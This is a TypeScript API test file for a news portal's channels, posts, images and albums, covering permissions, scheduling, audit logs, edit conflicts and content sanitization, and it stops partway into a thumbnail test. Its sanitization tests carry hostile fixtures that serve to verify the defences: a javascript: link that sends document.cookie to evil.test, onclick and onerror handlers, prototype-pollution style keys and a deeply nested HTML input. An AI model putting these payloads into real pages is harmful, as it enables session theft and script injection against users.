import sharp from 'sharp';
import { and, eq, inArray, sql } from 'drizzle-orm';
import { POST as searchRoute } from '@/app/api/v1.0/news/channels/search/route';
import { GET as listChannelsRoute, POST as createChannelRoute } from '@/app/api/v1.0/news/channels/route';
import { DELETE as deactivateRoute, GET as getChannelRoute, PUT as updateChannelRoute } from '@/app/api/v1.0/news/channels/[id]/route';
import { GET as channelPostsRoute, POST as createPostRoute } from '@/app/api/v1.0/news/channels/[id]/posts/route';
import { POST as uploadRoute } from '@/app/api/v1.0/news/channels/[id]/upload-image/route';
import { DELETE as cancelPostRoute, PUT as updatePostRoute } from '@/app/api/v1.0/news/channels/posts/[id]/route';
import { GET as getPostRoute } from '@/app/api/v1.0/news/posts/[id]/route';
import { GET as pdfRoute } from '@/app/api/v1.0/news/posts/[id]/pdf/route';
import { GET as imageRoute } from '@/app/api/v1.0/news/images/[name]/route';
import { GET as adminPostsRoute } from '@/app/api/v1.0/admin/news/channels/[id]/posts/route';
import { GET as albumsRoute, POST as createAlbumRoute } from '@/app/api/v1.0/albums/route';
import { DELETE as deleteAlbumRoute, GET as getAlbumRoute, POST as updateAlbumRoute } from '@/app/api/v1.0/albums/[id]/route';
import { GET as feedRoute } from '@/app/api/v1.0/members/news/route';
import { GET as readRoute } from '@/app/api/v1.0/members/news/[id]/route';
import { getDb } from '@/lib/db/client';
import { storage } from '@/lib/storage';
import { CHANNEL_INACTIVE, FOREIGN_IMAGE, POST_MESSAGES, SCHEDULE_IN_PAST } from '@/lib/news/schemas';
import { auditLog, newsPosts } from '@/lib/db/schema';
import { publishDuePosts } from '@/lib/news/posts';
import { tick } from '@/lib/tick';
import { call, tokenFor } from '../../helpers/http';
import { seed } from '../../helpers/seed';
import { withTempStorage } from '../../helpers/storage';

withTempStorage('news');

type T = Record<'newsAdmin' | 'contributor' | 'otherContributor' | 'internal' | 'admin' | 'superAdmin' | 'ads' | 'driver' | 'employer', string>;
let t: T;

beforeAll(async () => {
  await seed();
  const db = await getDb();
  const { hashPassword } = await import('@/lib/auth/passwords');
  const { users, userRoles } = await import('@/lib/db/schema');
  const { DEMO_PASSWORD } = await import('@/lib/db/seed/accounts');
  const [u] = await db
    .insert(users)
    .values({ email: 'writer2@news.test', firstName: 'Wanda', lastName: 'Writer', passwordHash: await hashPassword(DEMO_PASSWORD), emailVerifiedAt: new Date(), termsAcceptedAt: new Date() })
    .returning();
  await db.insert(userRoles).values({ userId: u.id, role: 'NewsContributor' });
  t = {
    newsAdmin: await tokenFor('newsadmin@demo.test'),
    contributor: await tokenFor('contributor@demo.test'),
    otherContributor: await tokenFor('writer2@news.test'),
    internal: await tokenFor('internal@demo.test'),
    admin: await tokenFor('admin@demo.test'),
    superAdmin: await tokenFor('superadmin@demo.test'),
    ads: await tokenFor('adsadmin@demo.test'),
    driver: await tokenFor('driver@demo.test'),
    employer: await tokenFor('employer@demo.test'),
  };
});

const text = (s: string) => ({ type: 'text', text: s, format: 0 });
const cell = (s: string, extra: Record<string, unknown> = {}) => ({ type: 'tablecell', colSpan: 1, rowSpan: 1, headerState: 0, children: [{ type: 'paragraph', children: [text(s)] }], ...extra });
const body = (...children: unknown[]) => ({ root: { type: 'root', children } });
const hello = body({ type: 'paragraph', children: [text('Hello drivers')] });

async function channel(token = t.newsAdmin, fields: Record<string, unknown> = {}) {
  const res = await call(createChannelRoute, { token, body: { name: 'Road news', description: 'Updates', channel_type: 'general', ...fields } });
  expect(res.status).toBe(201);
  return res.json.data.id as number;
}

async function post(channelId: number, token = t.contributor, fields: Record<string, unknown> = {}) {
  const res = await call(createPostRoute, { token, params: { id: String(channelId) }, body: { title: 'Fuel prices drop', body: hello, ...fields } });
  return res;
}

async function png(width: number, height: number) {
  return sharp({ create: { width, height, channels: 3, background: '#3366aa' } }).png().toBuffer();
}

async function upload(channelId: number, bytes: Buffer, token = t.contributor) {
  const form = new FormData();
  form.set('image', new Blob([new Uint8Array(bytes)], { type: 'image/png' }), 'wide.png');
  return call(uploadRoute, { token, params: { id: String(channelId) }, rawBody: form, method: 'POST' });
}

describe('news channels', () => {
  it('lets only news admins create, update and deactivate channels', async () => {
    for (const token of [t.contributor, t.internal, t.admin, t.superAdmin, t.ads]) {
      const res = await call(createChannelRoute, { token, body: { name: 'X', channel_type: 'general' } });
      expect(res.status).toBe(403);
    }
    for (const token of [t.driver, t.employer]) expect((await call(createChannelRoute, { token, body: { name: 'X', channel_type: 'general' } })).status).toBe(403);
    const id = await channel();
    const upd = await call(updateChannelRoute, { token: t.newsAdmin, params: { id: String(id) }, body: { description: 'New text' }, method: 'PUT' });
    expect(upd.json.data).toMatchObject({ id, description: 'New text', is_active: true });
    expect((await call(updateChannelRoute, { token: t.contributor, params: { id: String(id) }, body: { name: 'Mine' }, method: 'PUT' })).status).toBe(403);
    const off = await call(deactivateRoute, { token: t.newsAdmin, params: { id: String(id) }, method: 'DELETE' });
    expect(off.json.data.is_active).toBe(false);
  });

  it('lets every portal reader list, search and read channels, newest first by default', async () => {
    const a = await channel(t.newsAdmin, { name: 'Alpha safety', channel_type: 'safety' });
    const b = await channel(t.newsAdmin, { name: 'Beta jobs', channel_type: 'jobs' });
    for (const token of [t.newsAdmin, t.contributor, t.internal, t.admin, t.superAdmin, t.ads]) {
      const res = await call(searchRoute, { token, body: {}, query: { offset: 0, limit: 2 } });
      expect(res.status).toBe(200);
      expect(res.json.data.map((c: { id: number }) => c.id)).toEqual([b, a]);
      expect(res.json.pagination).toMatchObject({ offset: 0, limit: 2 });
    }
    const filtered = await call(searchRoute, { token: t.internal, body: { filters: [{ field: 'name', operator: 'ilike', value: 'alpha' }], orders: [{ field: 'name', direction: 'asc' }] } });
    expect(filtered.json.data.map((c: { id: number }) => c.id)).toEqual([a]);
    expect((await call(listChannelsRoute, { token: t.ads })).status).toBe(200);
    expect((await call(getChannelRoute, { token: t.internal, params: { id: String(a) } })).json.data.name).toBe('Alpha safety');
    expect((await call(searchRoute, { token: t.driver, body: {} })).status).toBe(403);
    expect((await call(searchRoute, { body: {} })).status).toBe(401);
    expect((await call(getChannelRoute, { token: t.internal, params: { id: 'abc' } })).status).toBe(404);
    const bad = await call(searchRoute, { token: t.internal, body: { filters: [{ field: 'password', operator: 'equals', value: 'x' }] } });
    expect(bad.status).toBe(422);
    expect(bad.json.errors[0].message).toBeTruthy();
  });

  it('filters by is_active with its operator: not_ilike false keeps the active ones; a comparison or a non-boolean is a 422', async () => {
    const on = await channel(t.newsAdmin, { name: 'Still on' });
    const off = await channel(t.newsAdmin, { name: 'Switched off' });
    await call(deactivateRoute, { token: t.newsAdmin, params: { id: String(off) }, method: 'DELETE' });
    const search = (operator: string, value: unknown) => call(searchRoute, { token: t.internal, body: { filters: [{ field: 'is_active', operator, value }] }, query: { limit: 100 } });
    const ids = async (operator: string, value: unknown) => (await search(operator, value)).json.data.map((c: { id: number }) => c.id);
    expect(await ids('not_ilike', false)).toContain(on);
    expect(await ids('not_ilike', false)).not.toContain(off);
    expect(await ids('equals', false)).toContain(off);
    expect(await ids('equals', 'true')).not.toContain(off);
    expect((await search('greater_than', true)).status).toBe(422);
    expect((await search('equals', 'yes')).status).toBe(422);
  });

  it('filters by created_at as the whole day the portal prints (US/Eastern): equals and contains find it, does not contain leaves out only that day', async () => {
    const id = await channel(t.newsAdmin, { name: 'Late night channel' });
    // 9:30 pm Eastern on Nov 28 (already Nov 29 in UTC), with the microseconds a stored time has.
    await (await getDb()).execute(sql`update news_channels set created_at = '2026-11-29 02:30:00.123456+00' where id = ${id}`);
    const search = (operator: string, value: string) => call(searchRoute, { token: t.internal, body: { filters: [{ field: 'created_at', operator, value }] }, query: { limit: 100 } });
    const ids = async (operator: string, value: string) => (await search(operator, value)).json.data.map((c: { id: number }) => c.id);
    expect(await ids('equals', '2026-11-28')).toContain(id);
    expect(await ids('equals', '11/28/2026')).toContain(id);
    expect(await ids('ilike', '2026-11-28')).toContain(id);
    expect(await ids('equals', '2026-11-29')).not.toContain(id);
    expect(await ids('not_ilike', '2026-11-27')).toContain(id);
    expect(await ids('not_ilike', '2026-11-28')).not.toContain(id);
    expect((await search('equals', 'yesterday')).status).toBe(422);
  });
});

describe('news posts', () => {
  it('stores the body as repaired Lexical JSON plus sanitized HTML; a contributor edits only their own posts', async () => {
    const id = await channel();
    const table = { type: 'table', colWidths: [10, 200], children: [{ type: 'tablerow', children: [cell('A', { rowSpan: 4 }), cell('B')] }, { type: 'tablerow', children: [cell('C')] }] };
    const res = await post(id, t.contributor, { body: body({ type: 'paragraph', children: [text('<script>x</script>')] }, table) });
    expect(res.status).toBe(201);
    const p = res.json.data;
    expect(p).toMatchObject({ status: 'Inactive', is_active: false, channel_id: id, views: 0 });
    expect(p.body_html).toContain('&lt;script&gt;');
    expect(p.body_html).toContain('<td rowspan="2">');
    expect(p.body.root.children[1].colWidths).toEqual([25, 200]);

    const mine = await call(updatePostRoute, { token: t.contributor, params: { id: String(p.id) }, body: { title: 'Fuel prices fall' }, method: 'PUT' });
    expect(mine.json.data.title).toBe('Fuel prices fall');
    const theirs = await call(updatePostRoute, { token: t.otherContributor, params: { id: String(p.id) }, body: { title: 'Hijack' }, method: 'PUT' });
    expect(theirs.status).toBe(403);
    const admin = await call(updatePostRoute, { token: t.newsAdmin, params: { id: String(p.id) }, body: { title: 'Edited by admin' }, method: 'PUT' });
    expect(admin.status).toBe(200);
    for (const token of [t.internal, t.admin, t.superAdmin, t.ads]) {
      expect((await call(updatePostRoute, { token, params: { id: String(p.id) }, body: { title: 'No' }, method: 'PUT' })).status).toBe(403);
      expect((await post(id, token)).status).toBe(403);
      expect((await call(getPostRoute, { token, params: { id: String(p.id) } })).status).toBe(200);
      expect((await call(channelPostsRoute, { token, params: { id: String(id) } })).status).toBe(200);
    }
    expect((await call(getPostRoute, { token: t.driver, params: { id: String(p.id) } })).status).toBe(403);
  });

  it('refuses bodies that are too deep or too large with a clear 422, and a schedule in the past', async () => {
    const id = await channel();
    let deep: Record<string, unknown> = text('x');
    for (let i = 0; i < 80; i++) deep = { type: 'quote', children: [deep] };
    const tooDeep = await post(id, t.contributor, { body: body(deep) });
    expect(tooDeep.status).toBe(422);
    expect(tooDeep.json.errors[0].message).toBe(POST_MESSAGES.tooDeep);
    // HTML too: 150,000 nested <b> held the server for 18 s in the sanitizer (quadratic in the nesting).
    const started = Date.now();
    const deepHtml = await post(id, t.contributor, { body: '<b>'.repeat(150_000) + 'x' });
    expect(deepHtml.status).toBe(422);
    expect(deepHtml.json.errors[0].message).toBe(POST_MESSAGES.tooDeep);
    expect(Date.now() - started).toBeLessThan(3_000);
    const many = Array.from({ length: 12_000 }, () => ({ type: 'paragraph', children: [text('x')] }));
    const tooLong = await post(id, t.contributor, { body: body(...many) });
    expect(tooLong.status).toBeGreaterThanOrEqual(413);
    expect(tooLong.json.errors[0].message).toBeTruthy();
    const past = await post(id, t.contributor, { scheduled_at: '2020-01-01T00:00:00Z' });
    expect(past.status).toBe(422);
    expect(past.json.errors[0].message).toBe(SCHEDULE_IN_PAST);
  });

  it('refuses a body whose text is not a string (it was published as an empty post, the number kept for editors), as object or JSON string', async () => {
    const id = await channel();
    const numeric = body({ type: 'paragraph', children: [{ type: 'text', text: 123 }] });
    const postsIn = async () => (await (await getDb()).select({ id: newsPosts.id }).from(newsPosts).where(eq(newsPosts.channelId, id))).length;
    for (const sent of [numeric, JSON.stringify(numeric), body({ type: 'code', children: [{ type: 'code-highlight', text: null }] })]) {
      const res = await post(id, t.contributor, { body: sent, is_active: true });
      expect([res.status, res.json.errors]).toEqual([422, [{ message: POST_MESSAGES.invalid, field: 'body' }]]);
    }
    expect(await postsIn()).toBe(0);
    // An edit is read the same way.
    const p = (await post(id)).json.data;
    const edit = await call(updatePostRoute, { token: t.contributor, params: { id: String(p.id) }, body: { body: numeric }, method: 'PUT' });
    expect([edit.status, edit.json.errors]).toEqual([422, [{ message: POST_MESSAGES.invalid, field: 'body' }]]);
  });

  it('audits the fields a channel or post save really changes (the forms send them all), and nothing for a save that changes nothing', async () => {
    const db = await getDb();
    const entries = async (action: string, id: number) =>
      (await db.select().from(auditLog).where(and(eq(auditLog.action, action), eq(auditLog.entityId, String(id)))).orderBy(auditLog.id)).map((e) => e.data);
    const id = await channel();
    const channelForm = { name: 'Road news', description: 'Updates', channel_type: 'general', is_active: true };
    const saveChannel = (fields: Record<string, unknown>) => call(updateChannelRoute, { token: t.newsAdmin, params: { id: String(id) }, body: { ...channelForm, ...fields }, method: 'PUT' });
    expect((await saveChannel({})).status).toBe(200);
    expect(await entries('news_channel.update', id)).toEqual([]);
    expect((await saveChannel({ description: 'Road updates' })).status).toBe(200);
    expect(await entries('news_channel.update', id)).toEqual([{ fields: ['description'] }]);

    const p = (await post(id)).json.data;
    const savePost = (fields: Record<string, unknown>) => call(updatePostRoute, { token: t.contributor, params: { id: String(p.id) }, body: { title: p.title, body: p.body, ...fields }, method: 'PUT' });
    expect((await savePost({})).status).toBe(200);
    expect(await entries('news_post.update', p.id)).toEqual([]);
    expect((await savePost({ body: body({ type: 'paragraph', children: [text('Hello again')] }) })).status).toBe(200);
    expect(await entries('news_post.update', p.id)).toEqual([{ fields: ['body'], status: 'Inactive' }]);
  });

  it('writes only in active channels; cancels; the admin list shows every status', async () => {
    const id = await channel();
    const p = (await post(id)).json.data;
    const cancelled = await call(cancelPostRoute, { token: t.contributor, params: { id: String(p.id) }, method: 'DELETE' });
    expect(cancelled.json.data.status).toBe('Cancelled');
    const list = await call(adminPostsRoute, { token: t.contributor, params: { id: String(id) } });
    expect(list.json.data.map((x: { status: string }) => x.status)).toEqual(['Cancelled']);
    expect((await call(adminPostsRoute, { token: t.admin, params: { id: String(id) } })).status).toBe(403);
    await call(deactivateRoute, { token: t.newsAdmin, params: { id: String(id) }, method: 'DELETE' });
    const refused = await post(id);
    expect(refused.status).toBe(422);
    // Nor does it take images for the editor (stored for good and served to anyone).
    const image = await upload(id, await png(40, 30));
    expect(image.status).toBe(422);
    expect(image.json.errors[0].message).toBe(refused.json.errors[0].message);
  });

  it("a contributor cannot change their post's words once its channel is inactive, but may take it down; a news admin still edits", async () => {
    const id = await channel();
    const p = (await post(id)).json.data;
    await call(deactivateRoute, { token: t.newsAdmin, params: { id: String(id) }, method: 'DELETE' });
    const edit = (token: string, fields: Record<string, unknown>) => call(updatePostRoute, { token, params: { id: String(p.id) }, body: fields, method: 'PUT' });
    const refused = await edit(t.contributor, { title: 'Edited', body: '<p>new</p>' });
    expect(refused.status).toBe(422);
    expect(refused.json.errors[0].message).toBe(CHANNEL_INACTIVE);
    expect((await edit(t.contributor, { title: 'Edited' })).status).toBe(422);
    const db = await getDb();
    const [stored] = await db.select({ title: newsPosts.title }).from(newsPosts).where(eq(newsPosts.id, p.id));
    expect(stored.title).toBe(p.title);
    expect((await edit(t.newsAdmin, { title: 'Fixed by the editor' })).status).toBe(200);
    expect((await call(cancelPostRoute, { token: t.contributor, params: { id: String(p.id) }, method: 'DELETE' })).json.data.status).toBe('Cancelled');
  });

  it("saves the editor's whole form on a live post in an inactive channel: a news admin's edit goes through, a contributor's take-down too, a real change of state or words is still refused", async () => {
    const id = await channel();
    const p = (await post(id, t.contributor, { is_active: true })).json.data;
    await call(deactivateRoute, { token: t.newsAdmin, params: { id: String(id) }, method: 'DELETE' });
    // What the editor sends on every save: title, body and the publishing choice.
    const save = (token: string, fields: Record<string, unknown>) =>
      call(updatePostRoute, { token, params: { id: String(p.id) }, body: { title: p.title, body: p.body, is_active: true, scheduled_at: null, ...fields }, method: 'PUT' });

    const edited = await save(t.newsAdmin, { title: 'Fixed by the editor' });
    expect(edited.status).toBe(200);
    expect(edited.json.data).toMatchObject({ title: 'Fixed by the editor', status: 'POSTED' });
    // Publishing again, or scheduling, is still a new state in a channel that takes none.
    expect((await save(t.newsAdmin, { scheduled_at: new Date(Date.now() + 3_600_000).toISOString(), is_active: false })).json.errors?.[0].message).toBe(CHANNEL_INACTIVE);

    // The contributor's words are not theirs to change there, but the same words again are no change.
    expect((await save(t.contributor, { title: 'Edited' })).json.errors?.[0].message).toBe(CHANNEL_INACTIVE);
    const down = await save(t.contributor, { title: 'Fixed by the editor', is_active: false, status: 'Inactive' });
    expect(down.status).toBe(200);
    expect(down.json.data).toMatchObject({ title: 'Fixed by the editor', status: 'Inactive', is_active: false });
  });

  it('dates a post from when it is (re)published: the tick uses the new schedule, a republish uses now, and a scheduled post has none', async () => {
    const id = await channel();
    const p = (await post(id, t.contributor, { is_active: true })).json.data;
    const first = new Date(p.published_at).getTime();
    const edit = (fields: Record<string, unknown>) => call(updatePostRoute, { token: t.contributor, params: { id: String(p.id) }, body: fields, method: 'PUT' });

    const later = new Date(Date.now() + 3_600_000);
    const rescheduled = (await edit({ scheduled_at: later.toISOString() })).json.data;
    expect(rescheduled).toMatchObject({ status: 'SCHEDULED', published_at: null });
    const listed = await call(channelPostsRoute, { token: t.contributor, params: { id: String(id) } });
    expect(listed.json.data.find((x: { id: number }) => x.id === p.id).published_at).toBeNull();
    await tick(await getDb(), new Date(later.getTime() + 1000));
    const ticked = await call(getPostRoute, { token: t.contributor, params: { id: String(p.id) } });
    expect(ticked.json.data).toMatchObject({ status: 'POSTED', published_at: later.toISOString() });

    const down = (await edit({ status: 'Inactive' })).json.data;
    expect(down.published_at).toBe(later.toISOString());
    const before = Date.now();
    const again = (await edit({ is_active: true })).json.data;
    expect(again.status).toBe('POSTED');
    expect(new Date(again.published_at).getTime()).toBeGreaterThanOrEqual(before);
    expect(new Date(again.published_at).getTime()).toBeGreaterThan(first);
  });

  it('keeps a live post live on a save with scheduled_at: null and no is_active (it has no schedule to drop); a scheduled post is unscheduled by it', async () => {
    const id = await channel();
    const live = (await post(id, t.contributor, { is_active: true })).json.data;
    const edit = (postId: number, fields: Record<string, unknown>) => call(updatePostRoute, { token: t.contributor, params: { id: String(postId) }, body: fields, method: 'PUT' });
    const saved = await edit(live.id, { title: 'Retitled', scheduled_at: null });
    expect(saved.status).toBe(200);
    expect(saved.json.data).toMatchObject({ title: 'Retitled', status: 'POSTED', is_active: true, published_at: live.published_at });
    expect((await call(readRoute, { token: t.driver, params: { id: String(live.id) } })).json.data.title).toBe('Retitled');

    const waiting = (await post(id, t.contributor, { scheduled_at: new Date(Date.now() + 3_600_000).toISOString() })).json.data;
    expect((await edit(waiting.id, { scheduled_at: null })).json.data).toMatchObject({ status: 'Inactive', scheduled_at: null });
  });

  it('saves a post the tick published with the scheduled_at and is_active it was read with (its past schedule is no new one); is_active false still takes it down', async () => {
    const id = await channel();
    const p = (await post(id, t.contributor, { scheduled_at: new Date(Date.now() + 60_000).toISOString() })).json.data;
    // Its time came an hour ago, and the tick published it then.
    const past = new Date(Date.now() - 3_600_000);
    const db = await getDb();
    await db.update(newsPosts).set({ scheduledAt: past }).where(eq(newsPosts.id, p.id));
    await publishDuePosts(db, new Date());
    const read = (await call(getPostRoute, { token: t.contributor, params: { id: String(p.id) } })).json.data;
    expect(read).toMatchObject({ status: 'POSTED', is_active: true, scheduled_at: past.toISOString() });
    const save = (fields: Record<string, unknown>) =>
      call(updatePostRoute, { token: t.contributor, params: { id: String(p.id) }, body: { title: 'Retitled', scheduled_at: read.scheduled_at, is_active: read.is_active, ...fields }, method: 'PUT' });

    const saved = await save({});
    expect(saved.status).toBe(200);
    expect(saved.json.data).toMatchObject({ title: 'Retitled', status: 'POSTED', published_at: past.toISOString() });
    expect((await save({ is_active: false })).json.data).toMatchObject({ status: 'Inactive', is_active: false });
    // Another time in the past is still a schedule refused.
    expect((await save({ scheduled_at: new Date(past.getTime() - 60_000).toISOString() })).json.errors?.[0].message).toBe(SCHEDULE_IN_PAST);
  });

  it('publishes due posts in batches: a spent budget leaves the rest to the next tick', async () => {
    const id = await channel();
    const soon = new Date(Date.now() + 60_000);
    const ids: number[] = [];
    for (const title of ['Batch one', 'Batch two']) ids.push((await post(id, t.contributor, { title, scheduled_at: soon.toISOString() })).json.data.id);
    const db = await getDb();
    const at = new Date(soon.getTime() + 1000);
    const status = async () => (await db.select({ status: newsPosts.status }).from(newsPosts).where(inArray(newsPosts.id, ids))).map((r) => r.status).sort();
    expect(await publishDuePosts(db, at, { size: 1, budgetMs: 0 })).toEqual({ published: 1 });
    expect(await status()).toEqual(['POSTED', 'SCHEDULED']);
    expect(await publishDuePosts(db, at, { size: 1 })).toEqual({ published: 1 });
    expect(await status()).toEqual(['POSTED', 'POSTED']);
  });

  it('publishes a scheduled post in the tick at its time; drivers read it newest first, a view counted once a day', async () => {
    const id = await channel();
    const soon = new Date(Date.now() + 60_000);
    const p = (await post(id, t.contributor, { scheduled_at: soon.toISOString() })).json.data;
    expect(p.status).toBe('SCHEDULED');
    const db = await getDb();
    expect(await publishDuePosts(db, new Date())).toEqual({ published: 0 });
    await tick(db, new Date(soon.getTime() + 1000));
    const after = await call(getPostRoute, { token: t.contributor, params: { id: String(p.id) } });
    expect(after.json.data).toMatchObject({ status: 'POSTED', is_active: true, published_at: soon.toISOString() });

    const now = (await post(id, t.newsAdmin, { title: 'Now live', is_active: true })).json.data;
    expect(now.status).toBe('POSTED');
    const feed = await call(feedRoute, { token: t.driver });
    expect(feed.status).toBe(200);
    const ids = feed.json.data.map((x: { id: number }) => x.id);
    // Newest first by publication: the scheduled post went out at its time, a minute after 'Now live'.
    expect(ids.indexOf(p.id)).toBeLessThan(ids.indexOf(now.id));
    expect(ids.indexOf(now.id)).toBeGreaterThan(-1);
    const first = await call(readRoute, { token: t.driver, params: { id: String(p.id) } });
    expect(first.json.data.views).toBe(1);
    const again = await call(readRoute, { token: t.driver, params: { id: String(p.id) } });
    expect(again.json.data.views).toBe(1);
    expect((await call(feedRoute, { token: t.employer })).status).toBe(403);
  });
});

describe('two editors: a post save over a newer one (If-Match)', () => {
  const STALE = 'This post was changed somewhere else (another tab, device or person) after you opened it. Reload the page to see the changes, then make yours again.';
  const save = (id: number, fields: Record<string, unknown>, headers?: Record<string, string>, token = t.contributor) => call(updatePostRoute, { token, params: { id: String(id) }, body: fields, headers, method: 'PUT' });

  it("refuses with 412 a save made from a post saved elsewhere since, and keeps that save's change", async () => {
    const p = (await post(await channel())).json.data;
    const ifMatch = { 'if-match': `"${p.updated_at}"` };
    // A news admin edits the contributor's post from the version both opened.
    const admin = await save(p.id, { title: 'Fuel prices fall', body: p.body }, ifMatch, t.newsAdmin);
    expect(admin.status).toBe(200);
    expect(admin.json.data.updated_at).not.toBe(p.updated_at);
    // The contributor's editor, opened before, saves its own words with the old version: refused, nothing written.
    const mine = await save(p.id, { title: 'Fuel prices drop again', body: body({ type: 'paragraph', children: [text('Mine')] }), is_active: true }, ifMatch);
    expect([mine.status, mine.json.errors]).toEqual([412, [{ message: STALE }]]);
    const now = (await call(getPostRoute, { token: t.contributor, params: { id: String(p.id) } })).json.data;
    expect(now).toMatchObject({ title: 'Fuel prices fall', body_html: p.body_html, status: 'Inactive', updated_at: admin.json.data.updated_at });
    const entries = await (await getDb()).select().from(auditLog).where(and(eq(auditLog.action, 'news_post.update'), eq(auditLog.entityId, String(p.id))));
    expect(entries).toHaveLength(1);
    // Someone who may not edit the post is still told so first.
    expect((await save(p.id, { title: 'Hijack' }, ifMatch, t.otherContributor)).status).toBe(403);
    // With the version it now shows, the save goes through; without a header, or with `*`, the last write wins.
    expect((await save(p.id, { title: 'Fuel prices drop again' }, { 'if-match': `"${now.updated_at}"` })).status).toBe(200);
    expect((await save(p.id, { title: 'Last write wins' }, undefined, t.newsAdmin)).status).toBe(200);
    expect((await save(p.id, { title: 'Still wins' }, { 'if-match': '*' })).json.data.title).toBe('Still wins');
  });

  it('lets only one of two saves from the same version through, also when they land together', async () => {
    const p = (await post(await channel())).json.data;
    const headers = { 'if-match': `"${p.updated_at}"` };
    const results = await Promise.all(['Saved in tab one', 'Saved in tab two'].map((title) => save(p.id, { title }, headers)));
    expect(results.map((r) => r.status).sort()).toEqual([200, 412]);
    const winner = results.find((r) => r.status === 200)!.json.data.title;
    expect((await call(getPostRoute, { token: t.contributor, params: { id: String(p.id) } })).json.data.title).toBe(winner);
  });
});

describe("a post's stored Lexical state, which other writers' editors open", () => {
  it('keeps what the editor makes and drops what it would not: script links, foreign images, unknown nodes and fields, overlay styles', async () => {
    const id = await channel();
    const hostile = body(
      {
        type: 'paragraph',
        onclick: 'steal()',
        children: [
          { ...text('big red'), style: 'font-size: 18px; color: #b91c1c; position: fixed; inset: 0; z-index: 99; background-image: url(https://evil.test/x.png)' },
          { type: 'link', url: 'javascript:fetch(`//evil.test?${document.cookie}`)', children: [text('click me')] },
          { type: 'link', url: 'https://example.com/route', target: '_top', children: [text('route')] },
          { type: 'image', src: 'javascript:alert(1)', altText: 'x' },
          { type: 'image', src: '/api/v1.0/news/images/1-0123456789abcdef.webp', altText: 'truck', width: 300, height: 200 },
        ],
      },
      { type: 'iframe-embed', src: 'https://evil.test', children: [text('kept text')] },
      { type: 'paragraph', children: [text('nested'), { type: 'mystery', nested: { deeper: { html: '<img onerror=x>' } } }] },
    );
    const res = await post(id, t.contributor, { body: hostile });
    expect(res.status).toBe(201);
    const stored = res.json.data.body;
    const [first, second, third] = stored.root.children;
    expect(first).not.toHaveProperty('onclick');
    expect(first.children[0].style).toBe('font-size: 18px; color: #b91c1c');
    // The script link keeps its words, unlinked; the web link keeps its address, not its target.
    expect(first.children[1]).toMatchObject({ type: 'text', text: 'click me' });
    expect(first.children[2]).toMatchObject({ type: 'link', url: 'https://example.com/route', target: null });
    expect(first.children.filter((n: { type: string }) => n.type === 'image')).toEqual([
      expect.objectContaining({ src: '/api/v1.0/news/images/1-0123456789abcdef.webp', width: 300, height: 200 }),
    ]);
    // An unknown block gives way to its text, in a paragraph (the root holds no bare text).
    expect(second).toMatchObject({ type: 'paragraph', children: [{ type: 'text', text: 'kept text' }] });
    expect(third.children).toEqual([expect.objectContaining({ type: 'text', text: 'nested' })]);
    expect(JSON.stringify(stored)).not.toMatch(/javascript|evil\.test|onclick|onerror|position|mystery/);
    // The HTML is rendered from the cleaned state: the two say the same.
    expect(res.json.data.body_html).not.toMatch(/javascript|evil\.test|position/);
    expect(res.json.data.body_html).toContain('kept text');

    // The cleaned state is what the next editor gets, and saving it again changes nothing.
    const reread = await call(getPostRoute, { token: t.contributor, params: { id: String(res.json.data.id) } });
    expect(reread.json.data.body).toEqual(stored);
    const again = await call(updatePostRoute, { token: t.contributor, params: { id: String(res.json.data.id) }, body: { body: stored }, method: 'PUT' });
    expect(again.json.data.body).toEqual(stored);

    // A post stored before the store cleaned states is cleaned on its way to the editor.
    const db = await getDb();
    await db.execute(sql`update news_posts set body = ${JSON.stringify(hostile)}::jsonb where id = ${res.json.data.id}`);
    const legacy = await call(getPostRoute, { token: t.contributor, params: { id: String(res.json.data.id) } });
    expect(legacy.json.data.body).toEqual(stored);
  });
});

describe("a post's styles naming an object's inherited property", () => {
  it('drops a constructor or __proto__ declaration and keeps the rest, instead of a 500', async () => {
    const id = await channel();
    const styled = body({ type: 'paragraph', textStyle: '__proto__: x; text-align: center', children: [{ ...text('styled'), style: 'constructor: red; color: #b91c1c' }] });
    const res = await post(id, t.contributor, { body: styled });
    expect([res.status, res.json.errors]).toEqual([201, undefined]);
    expect(res.json.data.body.root.children[0]).toMatchObject({ textStyle: 'text-align: center', children: [{ text: 'styled', style: 'color: #b91c1c' }] });
  });
});

describe('images, thumbnails, albums and PDF', () => {
  it('refuses an image linked from another site (the pages show only our own), as Lexical state or HTML, naming the body', async () => {
    const id = await channel();
    const linked = body({ type: 'paragraph', children: [{ type: 'image', src: 'https://cdn.example.com/truck.png', altText: 'truck', width: 300, height: 200 }] });
    for (const value of [linked, '<p>Truck</p><img src="https://cdn.example.com/truck.png" alt="truck">']) {
      const res = await post(id, t.contributor, { body: value });
      expect(res.status).toBe(422);
      expect(res.json.errors[0]).toMatchObject({ field: 'body', message: FOREIGN_IMAGE });
    }
    const p = (await post(id)).json.data;
    const edit = await call(updatePostRoute, { token: t.contributor, params: { id: String(p.id) }, body: { body: linked }, method: 'PUT' });
    expect(edit.json.errors[0]).toMatchObject({ field: 'body', message: FOREIGN_IMAGE });
  });

  it('thumbnails follow the body\'s first image: kept while it stays, remade when it changes (old files removed), cleared when it goes', async () => {
    const id = await channel();
    const green = (await upload(id, await png(300, 200))).json.data.image_url;
    const red = (await upload(id, await png(800, 450))).json.data.image_url;
    const image = (src: string) => body({ type: 'paragraph', children: [{ type: 'image', src, altText: 'Truck', width: 720, height: 405 }] });
    const p = (await post(id, t.contributor, { body: image(green) })).json.data;
    expect(p.thumbnail).toMatch(/thumb-.*-full\.webp$/);
    const edit = (fields: Record<string, unknown>) => call(updatePostRoute, { token: t.contributor, params: { id: String(p.id) }, body: fields, method: 'PUT' });
    const nameOf = (url: string) => url.split('/').pop()!;
    const served = async (url: string) => (await call(imageRoute, { params: { name: nameOf(url) } })).status;

    // A web save sends the body each time: the same first image keeps the thumbnails.
    const kept = (await edit({ title: 'Retitled', body: image(green) })).json.data;
    expect([kept.thumbnail, kept.thumbnail_small]).toEqual([p.thumbnail, p.thumbnail_small]);

    // A new first image makes new thumbnails, and the replaced files are gone.
    const changed = (await edit({ body: image(red) })).json.data;
    expect(changed.thumbnail).not.toBe(p.thumbnail);
    expect([await served(changed.thumbnail), await served(p.thumbnail), await served(p.thumbnail_small)]).toEqual([200, 404, 404]);

    // A body without an image has no thumbnail left.
    const none = (await edit({ body: body({ type: 'paragraph', children: [text('Words only')] }) })).json.data;
    expect([none.thumbnail, none.thumbnail_small]).toEqual([null, null]);
    expect(await served(changed.thumbnail)).toBe(404);
  });

  it("gives a post written through the API as HTML the thumbnails of its first uploaded image, as a Lexical body's (it had none)", async () => {
    const id = await channel();
